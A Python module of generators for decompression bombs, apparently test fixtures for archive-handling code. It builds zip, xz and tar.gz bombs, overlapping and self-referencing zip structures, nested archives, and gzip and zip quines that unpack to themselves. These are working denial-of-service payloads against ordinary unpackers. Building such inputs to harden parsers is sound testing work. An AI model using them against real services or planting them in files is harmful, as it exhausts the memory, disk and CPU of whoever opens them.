"""Containers made to exhaust whoever opens them. Each is small itself."""

from __future__ import annotations

import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable


def deflate_bomb(unpacked: int) -> bytes:
    """A zip with one member of `unpacked` zeros."""
    made = io.BytesIO()
    with (
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros", "w", force_zip64=True) as out,
    ):
        for _ in range(unpacked >> 20):
            out.write(bytes(1 << 20))
    return made.getvalue()


def xz_bomb(unpacked: int) -> bytes:
    compressor = lzma.LZMACompressor(preset=0)
    return b"".join([*(compressor.compress(bytes(1 << 20)) for _ in range(unpacked >> 20)), compressor.flush()])


def many_members(count: int) -> bytes:
    """`count` empty stored members."""
    local, central = [], []
    at = 0
    for number in range(count):
        name = b"%07d" % number
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0)
        local.append(b"PK\3\4" + fields + name)
        central.append(b"PK\1\2" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, at) + name)
        at += len(local[-1])
    return _with_end(b"".join(local), b"".join(central), count)


def overlapping(count: int, unpacked: int) -> bytes:
    """`count` members whose local headers are followed by the same compressed zeros: each header but the last has an
    extra field that covers the headers behind it."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(unpacked)
    body = compressor.compress(zeros) + compressor.flush()
    size = 30 + 4
    local, central = [], []
    for number in range(count):
        extra = min(size * (count - 1 - number), 0xFFFF // size * size)
        behind = size * (count - 1 - number) - extra
        fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 33, zlib.crc32(zeros), len(body) + behind, unpacked)
        name = b"%04d" % number
        local.append(b"PK\3\4" + fields + struct.pack("<HH", 4, extra) + name)
        central.append(
            b"PK\1\2" + struct.pack("<H", 20) + fields + struct.pack("<HHHHHII", 4, 0, 0, 0, 0, 0, size * number) + name
        )
    return _with_end(b"".join(local) + body, b"".join(central), count)


def member_with_names(content: bytes, name: bytes, *names: bytes) -> bytes:
    """A zip with one member and a directory that gives it other `names`, which are as long."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = compressor.compress(content) + compressor.flush()
    fields = _zip_fields(name, zlib.crc32(content), len(content), len(body))
    central = b"".join(b"PK\1\2" + struct.pack("<H", 20) + fields + bytes(14) + each for each in names)
    return _with_end(b"PK\3\4" + fields + name + body, central, len(names))


def directory_of_itself(count: int) -> bytes:
    """A zip without members, whose entries lead to each other and to themselves."""
    size = 47
    fields = [
        _zip_fields(b"a", 0, size, size) + bytes(10) + struct.pack("<I", number * size) for number in range(count)
    ]
    central = b"".join(b"PK\1\2" + struct.pack("<H", 20) + each + b"a" for each in fields)
    return central + _end(count, len(central), 0)


def members_to_the_end(count: int) -> bytes:
    """A zip whose every member is stored and consists of all that follows, other members and directory included."""
    starts = [number * 31 for number in range(count)]
    total = count * (31 + 47) + 22
    fields = [_zip_fields(b"a", 0, total - start - 31, total - start - 31, method=0) for start in starts]
    local = b"".join(b"PK\3\4" + each + b"a" for each in fields)
    places = [bytes(10) + struct.pack("<I", start) + b"a" for start in starts]
    central = b"".join(
        b"PK\1\2" + struct.pack("<H", 20) + each + place for each, place in zip(fields, places, strict=True)
    )
    return _with_end(local, central, count)


def nested(depth: int) -> bytes:
    """Zip in zip, `depth` deep."""
    content, name = b"MZ the innermost", "inner.exe"
    for level in range(depth):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, content)
        content, name = made.getvalue(), f"{level}.zip"
    return content


def fork_tree(width: int, depth: int) -> bytes:
    """Each archive holds `width` archives, `depth` deep."""
    content = b"leaf"
    for _ in range(depth):
        made = io.BytesIO()
        with tarfile.open(fileobj=made, mode="w:gz") as archive:
            for number in range(width):
                info = tarfile.TarInfo(f"{number}.tgz")
                info.size = len(content)
                archive.addfile(info, io.BytesIO(content))
        content = made.getvalue()
    return content


def gzip_quine() -> bytes:
    """A gzip file that unpacks to itself, for ever (R. Cox, Zip Files All The Way Down, 2010)."""
    return _quine(_gzip_head, lambda name, checksum, size, packed: struct.pack("<II", checksum, size))


def _gzip_head(name: bytes, checksum: int, size: int, packed: int) -> bytes:
    return b"\x1f\x8b\x08\x08\0\0\0\0\0\xff" + b"a file that holds itself " + name + b"\0"


def zip_quine() -> bytes:
    """The same as a zip file, whose only member it is."""
    return _quine(_zip_head, _zip_trailer)


def _zip_fields(name: bytes, checksum: int, size: int, packed: int, method: int = 8) -> bytes:
    return struct.pack("<HHHHHIIIHH", 20, 0, method, 0, 33, checksum, packed, size, len(name), 0)


def _zip_head(name: bytes, checksum: int, size: int, packed: int) -> bytes:
    return b"PK\3\4" + _zip_fields(name, checksum, size, packed) + name


def _zip_trailer(name: bytes, checksum: int, size: int, packed: int) -> bytes:
    central = b"PK\1\2" + struct.pack("<H", 20) + _zip_fields(name, checksum, size, packed) + bytes(14) + name
    return central + _end(1, len(central), 30 + len(name) + packed)


Frame = Callable[[bytes, int, int, int], bytes]  # of the member's name, checksum, size and packed size


def _quine(head: Frame, trailer: Frame) -> bytes:
    """The file between `head` and `trailer` that unpacks to all of it; names are tried until one has a solution."""
    for letter in range(ord("a"), ord("z")):
        name = b"%c.zip" % letter
        begin, end = len(head(name, 0, 0, 0)), len(trailer(name, 0, 0, 0))
        size = len(_self_unpacking(bytes(begin), bytes(end)))
        sizes = size, size - begin - end
        fixed = _fixed_point(lambda crc: _self_unpacking(head(name, crc, *sizes), trailer(name, crc, *sizes)))  # noqa: B023
        if fixed is not None:
            return fixed
    raise AssertionError("no file name has a checksum that is its own")


_STEP = 10  # bytes of each block that steers the unpacking


def _self_unpacking(head: bytes, trailer: bytes) -> bytes:
    """Every step is 10 bytes long; a copied step is followed by what it copies, so that the output is the program."""
    tail = _copy(0) + b"\1\0\0\xff\xff" + trailer
    again_head, again_tail, again = _repeat(len(head) + _STEP), _repeat(len(tail) + _STEP), _repeat(4 * _STEP)
    copy_head, copy_tail = _copy(len(head) + _STEP), _copy(len(tail) + _STEP)
    one, four, none = _copy(_STEP), _copy(4 * _STEP), _copy(0)
    return b"".join(
        (
            *(head, copy_head, head, copy_head, again_head, one, again_head, one, one),
            *(four, again_head, one, one, four, again),
            *(four, again, four, again, four, again),
            *(four, again, none, none, copy_tail, again, none, none),
            *(copy_tail, again_tail, tail, again_tail, tail),
        )
    )


def _copy(count: int) -> bytes:
    """A stored block (RFC 1951 section 3.2.4): the next `count` bytes come out as they are. In front of it four empty
    blocks, so that it is as long as a step."""
    return _bits(_EMPTY * 4 + "000") + struct.pack("<HH", count, count ^ 0xFFFF)


def _repeat(count: int) -> bytes:
    """The last `count` bytes, 33 to 128, come out once more: one match in fixed codes (section 3.2.6), an empty block,
    and a stored block that is empty too."""
    length, extra_length = _code(count, _LENGTHS)
    distance, extra_distance = _code(count, _DISTANCES)
    match = f"{length - 256:07b}" + extra_length + f"{distance:05b}" + extra_distance
    return _bits("010" + match + "0000000" + _EMPTY + "000") + struct.pack("<HH", 0, 0xFFFF)


_EMPTY = "0100000000"  # a block in fixed codes with nothing but its end
_LENGTHS = {
    31: (272, 2),
    35: (273, 3),
    43: (274, 3),
    51: (275, 3),
    59: (276, 3),
    67: (277, 4),
    83: (278, 4),
    99: (279, 4),
}
_DISTANCES = {33: (10, 4), 49: (11, 4), 65: (12, 5), 97: (13, 5)}


def _code(value: int, table: dict[int, tuple[int, int]]) -> tuple[int, str]:
    """The code of a length or distance and its extra bits, the lowest first (section 3.2.5)."""
    start = max(first for first in table if first <= value)
    code, bits = table[start]
    return code, f"{value - start:0{bits}b}"[::-1]


def _bits(bits: str) -> bytes:
    return int(bits[::-1], 2).to_bytes((len(bits) + 7) // 8, "little")


def _fixed_point(file: Callable[[int], bytes]) -> bytes | None:
    """The file that holds its own checksum: CRC-32 is affine, so that is a system of 32 equations over one bit each."""
    constant = zlib.crc32(file(0))
    rows: dict[int, tuple[int, int]] = {}  # by highest bit: an image and the checksum bits that make it
    for bit in range(32):
        image, made_of = zlib.crc32(file(1 << bit)) ^ constant ^ 1 << bit, 1 << bit
        while image and image.bit_length() in rows:
            other, others = rows[image.bit_length()]
            image, made_of = image ^ other, made_of ^ others
        if image:
            rows[image.bit_length()] = image, made_of
    rest, checksum = constant, 0
    while rest:
        if rest.bit_length() not in rows:
            return None
        image, made_of = rows[rest.bit_length()]
        rest, checksum = rest ^ image, checksum ^ made_of
    return file(checksum)


def _with_end(local: bytes, central: bytes, count: int) -> bytes:
    return local + central + _end(count, len(central), len(local))


def _end(count: int, size: int, start: int) -> bytes:
    """The end of a central directory of `size` bytes that begins at `start`."""
    shown = min(count, 0xFFFF)
    return b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, shown, shown, size, start, 0)
